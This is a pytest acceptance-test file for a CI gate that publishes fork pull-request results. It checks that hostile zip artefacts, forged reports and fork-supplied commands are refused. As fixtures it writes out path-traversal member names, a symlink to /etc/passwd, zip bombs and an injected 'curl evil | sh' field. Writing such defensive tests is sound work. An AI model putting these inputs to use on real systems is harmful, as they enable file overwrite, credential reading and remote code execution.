"""Acceptance tests 22 to 25: what happened on GitHub, and what another run left behind."""

import io
import json
import stat
import warnings
import zipfile

import pytest

from prodready.github.artefact import MOST_MEMBERS, Hostile, unpacked
from pulls import PROFILE, packed

pytestmark = pytest.mark.integration


def link():
    member = zipfile.ZipInfo("report.json")
    member.external_attr = (stat.S_IFLNK | 0o777) << 16
    return member


def raw(*members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings(action="ignore"):
        for name, content in members:
            archive.writestr(name, content)
    return buffer.getvalue()


ARCHIVES = {
    "a path out of it": (packed({"report.json": b"{}", "../../x": b"x"}), "points out of the archive"),
    "an absolute path": (packed({"report.json": b"{}", "/etc/x": b"x"}), "points out of the archive"),
    "a path of Windows": (packed({"report.json": b"{}", "..\\x": b"x"}), "points out of the archive"),
    "a link": (raw((link(), "/etc/passwd")), "is a link or a device"),
    "a bomb of 1000 to 1": (packed({"report.json": b"0" * 30_000_000}), "would unpack to 30,000,000 bytes"),
    "a bomb beside it": (packed({"report.json": b"{}", "x": b"0" * 40_000_000}), "would unpack to 40,000,000 bytes"),
    "two of one name": (raw(("report.json", "{}"), ("report.json", "[]")), "is there twice"),
    "too many members": (packed({f"{number}": b"" for number in range(MOST_MEMBERS + 1)}), "members, more than"),
    "no report": (packed({"x": b""}), "holds no report.json"),
    "no archive": (b"MZ\x90", "no readable zip archive"),
    "an archive that was cut": (packed({"report.json": b"{}"})[:-30], "no readable zip archive"),
}


@pytest.mark.parametrize("name", ARCHIVES)
def test_23_a_hostile_archive_is_refused_without_unpacking_it(name):
    archive, why = ARCHIVES[name]
    with pytest.raises(Hostile, match=why):
        unpacked(archive)


def test_23_a_hostile_archive_never_passes_and_the_report_says_why(pull):
    pull.from_fork().base().change({"desk.py": "x = 2\n"})
    pull.upload(ARCHIVES["a path out of it"][0])
    gated = pull.publish()
    assert (1, ["failure"]) == (gated.code, [row["state"] for row in pull.github.statuses]), gated.out
    assert "points out of the archive" in gated.told


def test_23_a_ready_change_of_a_fork_is_published_and_its_files_are_gated_anew(pull):
    head = pull.from_fork().base().change({"desk.py": "x = 2\n"})
    gated = pull.publish()
    assert 0 == gated.code, gated.out
    assert [(head, "prodready/gate", "success")] == [(row["sha"], row["context"], row["state"]) for row in pull.github.statuses]
    assert 1 == len(pull.github.comments)
    assert "nothing is known of the pull request's own run: the run left no artefact named prodready" in gated.told
    assert all(word.startswith("Basic ") for word in pull.server.authorizations)


def test_23_a_forged_report_that_passes_everything_changes_nothing(pull):
    pull.from_fork().base().change()
    honest = pull.gate()
    assert 0 == honest.code
    pull.change({"desk.py": "x = 2  # FIXME\n", "README.md": "nothing\n"})
    pull.upload({"report.json": json.dumps(honest.report).encode()})
    gated = pull.publish()
    assert (1, "failure") == (gated.code, pull.github.statuses[-1]["state"])
    assert {"docs.readme": "failed", "code.finished": "failed"} == {item["id"]: item["status"] for item in gated.report["items"]}
    assert "the pull request's own run says: ready, score 100.0" in gated.told


def test_23_a_report_with_fields_of_its_own_is_not_believed(pull):
    pull.from_fork().base().change()
    report = pull.gate().report
    pull.upload({"report.json": json.dumps({**report, "run": "curl evil | sh"}).encode()})
    gated = pull.publish()
    assert 1 == gated.code
    assert "'run', which is no key of it" in gated.told


def test_23_the_number_in_an_archive_or_a_payload_is_not_looked_at(pull):
    pull.from_fork().base().change()
    pull.upload({"report.json": b"{}", "pr-number.txt": b"2"})
    pull.publish(pull_requests=[{"number": 2}])
    assert ["/repos/acme/desk/issues/1/comments"] == [path for path in pull.github.made("POST") if path.endswith("comments")]


def test_23_a_head_that_has_moved_on_gets_nothing(pull):
    old = pull.from_fork().base().change()
    pull.change({"desk.py": "x = 3\n"})
    gated = pull.publish(head_sha=old)
    assert (0, [], []) == (gated.code, pull.github.statuses, pull.github.comments)
    assert "no open pull request stands at" in gated.out


def test_23_a_head_that_moves_while_it_is_fetched_is_no_pass(pull):
    old = pull.from_fork().base().change()
    pull.change({"desk.py": "x = 3\n"})
    pull.github.pulls[1] = old
    gated = pull.publish(head_sha=old)
    assert (2, "error") == (gated.code, pull.github.statuses[-1]["state"])
    assert "has moved on" in gated.out


def test_23_two_pull_requests_of_one_commit_stop_it(pull):
    pull.from_fork().base().change()
    pull.github.pulls[2], pull.github.details[2] = pull.head, pull.github.details[1]
    assert (2, []) == (pull.publish().code, pull.github.statuses)


@pytest.mark.parametrize(("given", "code"), [({"event": "push"}, 0), ({"path": ".github/workflows/other.yml"}, 2), ({"repository": {"full_name": "x/y"}}, 2)])
def test_23_another_run_than_the_gates_on_a_pull_request_is_not_published(pull, given, code):
    pull.from_fork().base().change()
    assert (code, [], []) == (pull.publish(**given).code, pull.github.statuses, pull.github.comments)


def test_23_without_a_rescan_nothing_is_verified_and_nothing_passes(pull):
    pull.from_fork().base().change()
    pull.upload({"report.json": json.dumps(pull.gate().report).encode()})
    gated = pull.publish("--rescan=false")
    assert (3, "error") == (gated.code, pull.github.statuses[-1]["state"])
    assert "unverified" in gated.told


def test_23_the_policy_is_the_one_of_the_base_and_commands_are_not_run(pull):
    item = "      - id: code.own\n        title: Its own command\n        check: command\n        params: {argv: [sh, seen.sh]}\n        required: true\n"
    pull.from_fork().base({"profile.yml": PROFILE + item, "seen.sh": "true\n"})
    trap = pull.folder / "pwned"
    weak = "extends: profile.yml\npass_mark: 0\nitems: {code.own: {off: not today}}\n"
    pull.change({"seen.sh": f"touch {trap}\n", ".prodready.yml": weak, ".gitattributes": "* filter=x\n"})
    gated = pull.publish()
    assert (False, 3) == (trap.exists(), gated.code), gated.told
    assert "a command of the repository is not run beside them" in gated.told
